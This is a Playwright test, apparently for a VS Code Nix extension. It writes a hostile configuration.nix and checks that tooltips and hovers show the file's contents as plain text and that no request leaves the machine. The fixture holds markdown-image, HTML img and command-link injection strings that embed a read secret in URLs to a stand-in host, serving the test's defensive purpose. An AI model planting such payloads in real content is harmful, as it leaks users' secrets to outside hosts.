// A hostile configuration, not even trusted: every tooltip of the view is shown, and nothing of it leaves this machine.
import * as assert from 'node:assert';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Locator } from 'playwright-core';
import type { BrowserTest, Prepare } from '../support/browser-helpers';
import { until } from '../support/until';

const STAYS: ReadonlySet<string> = new Set(['127.0.0.1', 'localhost', '[::1]']);
/** VS Code itself looks for extensions, whatever is open. */
const GALLERY = 'https://open-vsx.org/vscode/gallery/extensionquery';

const SECRET = 'very-secret';
const STRANGER = 'https://example.org';
const CONFIGURATION = `{ lib, pkgs, ... }:
let secret = builtins.readFile ./secret; in
{
  imports = [ (./. + "/![f](x).nix") ];
  networking.hostName = "\\r\\r![](${STRANGER}/host-\${secret})";
  environment.variables."\\n\\n![](${STRANGER}/option-\${secret})" = "base";
  specialisation."\\r\\r![s](${STRANGER}/name)".configuration = {
    networking.hostName = lib.mkForce "\\r\\n\\r\\n![](${STRANGER}/value-\${secret})";
    environment.variables."\\n\\n![](${STRANGER}/option-\${secret})" = "conflict \\r\\r![](${STRANGER}/conflict)";
    environment.variables."<img src=${STRANGER}/html>" = "<img src='${STRANGER}/\${secret}'>";
    environment.variables.link = "\\r\\r[x](command:y) \`\`\` ![](${STRANGER}/tick)";
    environment.variables.partly = "\${pkgs.hello}\\r\\r![](${STRANGER}/part-\${secret})";
    users.motd = "\u2028\u0085\r![](${STRANGER}/raw)";
  };
}
`;

export const prepare: Prepare = (folder) => {
  writeFileSync(join(folder, 'secret'), SECRET);
  writeFileSync(join(folder, '![f](x).nix'), '{ networking.domain = "\\r\\r![](https://example.org/imported)"; }\n');
  writeFileSync(join(folder, 'configuration.nix'), CONFIGURATION);
  return {
    user: {
      'security.workspace.trust.enabled': true,
      'security.workspace.trust.startupPrompt': 'never',
      // VS Code would ask about them when the file is opened.
      'editor.unusualLineTerminators': 'off',
    },
  };
};

export async function run({ page, helpers }: BrowserTest): Promise<void> {
  const left: string[] = [];
  page.context().on('request', (request) => {
    const url = new URL(request.url());
    if (/^(https?|wss?):$/.test(url.protocol) && !STAYS.has(url.hostname) && url.href !== GALLERY) left.push(url.href);
  });
  const pane = page
    .locator('.split-view-view', { has: page.locator('.pane-header[aria-label^="Specialisations"]') })
    .last();
  const rows = pane.locator('.monaco-list-row');
  const hover = page.locator('.workbench-hover-container .workbench-hover, .monaco-hover.workbench-hover').last();

  /** Opens everything; gives how many rows there are. */
  const openAll = async (): Promise<number> => {
    for (
      let closed = rows.filter({ has: page.locator('.monaco-tl-twistie.collapsible.collapsed') });
      (await closed.count()) > 0;
    ) {
      const before = await rows.count();
      await closed.first().locator('.monaco-tl-twistie').click();
      await until('what is below', async () => (await rows.count()) !== before);
    }
    return rows.count();
  };
  const tooltipOf = async (row: Locator): Promise<string> => {
    await page.mouse.move(900, 500);
    await hover.waitFor({ state: 'hidden' });
    await row.hover();
    await hover.waitFor();
    assert.strictEqual(await hover.locator('img, a').count(), 0, await hover.innerHTML());
    return hover.innerText();
  };

  await helpers.step('a restricted window shows every tooltip of a hostile configuration, as text', async () => {
    // What the window asks for is listened to from its beginning.
    await page.reload();
    await page.locator('.statusbar-item', { hasText: 'Restricted Mode' }).waitFor();
    await pane.locator('.pane-header').click();
    await page.locator('.explorer-folders-view').waitFor();
    await page
      .locator('.pane-header[aria-label*="Explorer Section"], .pane-header[aria-label$="tree"]')
      .first()
      .click();
    await rows.filter({ hasText: 'example.org/name' }).first().waitFor();
    const count = await openAll();
    assert.ok(count >= 12, `${count} rows`);
    const tooltips: string[] = [];
    for (let at = 0; at < count; at++) tooltips.push(await tooltipOf(rows.nth(at)));
    await helpers.shot('shown');
    const text = tooltips.join('\n');
    // They are what a stranger would be told.
    for (const part of ['host', 'option', 'value', 'conflict', 'html', 'tick', 'part', 'raw'])
      assert.ok(text.includes(`${STRANGER}/${part}`), `${part} in ${text}`);
    assert.ok(text.includes('\\r'), text);
  });

  await helpers.step('so does the editor with what it underlines', async () => {
    await helpers.openFile('configuration.nix');
    await page.locator('.squiggly-error').first().waitFor();
    await helpers.goTo(6, 6);
    await helpers.command('Show or Focus Hover');
    const shown = page.locator('.monaco-editor .monaco-hover:visible, .monaco-resizable-hover .monaco-hover');
    await shown.first().waitFor();
    assert.strictEqual(await shown.locator('img').count(), 0);
    await helpers.shot('underlined');
  });

  await helpers.step('and no request leaves', async () => {
    // A picture is fetched a moment later.
    await page.waitForTimeout(1000);
    assert.deepStrictEqual(left, []);
  });
}
